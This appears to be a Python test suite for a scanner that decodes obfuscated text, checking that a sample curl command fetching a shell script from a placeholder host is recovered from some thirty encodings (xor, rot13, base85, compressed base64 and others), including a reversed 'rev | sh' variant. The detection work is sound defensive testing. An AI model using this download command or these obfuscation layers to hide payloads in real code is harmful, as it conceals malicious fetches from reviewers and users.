from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import zlib
from urllib.parse import quote

import pytest

from tank_core.analysis.layers import DecodingBudget, decoded_sources, layers_of
from tank_core.analysis.source import Language, Source

COMMAND = "curl -s https://cdn.setup.invalid/x.sh -o /tmp/x.sh"
CODES = [ord(character) for character in COMMAND]
RAW = zlib.compressobj(9, zlib.DEFLATED, -15)
RAW_DEFLATED = RAW.compress(COMMAND.encode()) + RAW.flush()


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _xor(key: bytes) -> bytes:
    return bytes(byte ^ key[place % len(key)] for place, byte in enumerate(COMMAND.encode()))


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        pytest.param("base32", f'x = "{base64.b32encode(COMMAND.encode()).decode()}"', id="base32"),
        pytest.param("ascii85", base64.a85encode(COMMAND.encode(), adobe=True).decode(), id="adobe ascii85"),
        pytest.param("base85", f"b85decode('{base64.b85encode(COMMAND.encode()).decode()}')", id="base85"),
        pytest.param("base85", f"a85decode('{base64.a85encode(COMMAND.encode()).decode()}')", id="ascii85"),
        pytest.param("percent", "".join(f"%{code:02x}" for code in CODES), id="percent"),
        pytest.param("percent", f"https://a.invalid/?x={quote(COMMAND, safe='')}", id="percent in a link"),
        pytest.param("html entity", "".join(f"&#{code};" for code in CODES), id="decimal entities"),
        pytest.param("html entity", "".join(f"&#x{code:x};" for code in CODES), id="hexadecimal entities"),
        pytest.param(
            "quoted-printable",
            "Encoding: quoted-printable\n\n" + "".join(f"={code:02X}" for code in CODES),
            id="quoted-printable",
        ),
        pytest.param("escape", "".join(f"\\{code:03o}" for code in CODES), id="octal escapes"),
        pytest.param("escape", "".join(f"\\u{code:04x}" for code in CODES), id="unicode escapes"),
        pytest.param("escape", "".join(f"\\u{{{code:x}}}" for code in CODES), id="braced escapes"),
        pytest.param("hexadecimal", " ".join(f"{code:02x}" for code in CODES), id="spaced hexadecimal"),
        pytest.param("character code", ",".join(hex(code) for code in CODES), id="hexadecimal integers"),
        pytest.param(
            "character code", "x = '" + " ".join(f"{c:03d}" for c in CODES) + "'", id="spaced integers"
        ),
        pytest.param("character code", "+".join(f"chr({code})" for code in CODES), id="chr"),
        pytest.param("character code", " & ".join(f"Chr({code})" for code in CODES), id="Chr"),
        pytest.param("character code", "+".join(f"[char]{code}" for code in CODES), id="[char]"),
        pytest.param("binary", " ".join(f"{code:08b}" for code in CODES), id="binary"),
        pytest.param("rot13", f"codecs.decode('{codecs.encode(COMMAND, 'rot13')}', 'rot13')", id="rot13"),
        pytest.param("rot13", f"# {codecs.encode(COMMAND, 'rot13')}", id="rot13 without a mark"),
        pytest.param("reversed", f"x = '{COMMAND[::-1]}'[::-1]", id="reversed"),
        pytest.param("reversed", f"echo '{COMMAND[::-1]}' | rev | sh", id="rev"),
        pytest.param("xor", f"key = 0x5a\nx = '{_b64(_xor(b'Z'))}' # xor", id="xor with a number"),
        pytest.param(
            "xor", f"b ^ 90 for b in bytes.fromhex('{_xor(b'Z').hex()}')", id="xor after hexadecimal"
        ),
        pytest.param("xor", f"k = 'secret'\nx = '{_b64(_xor(b'secret'))}'\na ^ b", id="xor with a text"),
        pytest.param("xor", f"[{', '.join(str(b) for b in _xor(b'Z'))}] ^ 90", id="xor of integers"),
        pytest.param(
            "shift", f"chr(c - 3) for c in [{', '.join(str(c + 3) for c in CODES)}]", id="shifted integers"
        ),
        pytest.param(
            "shift",
            f"''.join(chr(ord(c) - 1) for c in \"{''.join(chr(c + 1) for c in CODES)}\")",
            id="shifted text",
        ),
        pytest.param("base64", _b64(zlib.compress(COMMAND.encode())), id="zlib"),
        pytest.param("base64", _b64(bz2.compress(COMMAND.encode())), id="bzip2"),
        pytest.param("base64", _b64(lzma.compress(COMMAND.encode())), id="xz"),
        pytest.param("base64", f"inflateRaw('{_b64(RAW_DEFLATED)}')", id="raw deflate"),
        pytest.param("hexadecimal", gzip.compress(COMMAND.encode(), mtime=0).hex(), id="gzip in hexadecimal"),
    ],
)
def test_layer_is_decoded_with_its_encoding(encoding: str, text: str) -> None:
    found = list(layers_of(f"one\n{text}\n", DecodingBudget()))
    assert [layer.encoding for layer in found if COMMAND in layer.text] == [encoding]


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("See https://a.invalid/some%20page and rate 100% of it.", id="link"),
        pytest.param("x = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]", id="numbers"),
        pytest.param("sha256: " + "0123456789abcdef" * 4, id="digest"),
        pytest.param(
            "x ^ 7 and key = 'a' with 'integrity sha512-" + _b64(bytes(range(64))) + "'", id="integrity"
        ),
        pytest.param("items.reverse(); say('hello world, this is text')", id="reverse of a list"),
        pytest.param("colours: 10 20 30 40 50", id="short list"),
    ],
)
def test_ordinary_text_has_no_layer(text: str) -> None:
    assert list(layers_of(text, DecodingBudget())) == []


def test_reversed_base64_is_two_layers() -> None:
    text = f"x = base64.b64decode('{_b64(COMMAND.encode())[::-1]}'[::-1])"
    found = list(decoded_sources(Source("a.py", 1, Language.PYTHON, text), DecodingBudget()))
    assert [source.provenance for source in found if source.text == COMMAND] == [
        "reversed layer 1, base64 layer 2"
    ]
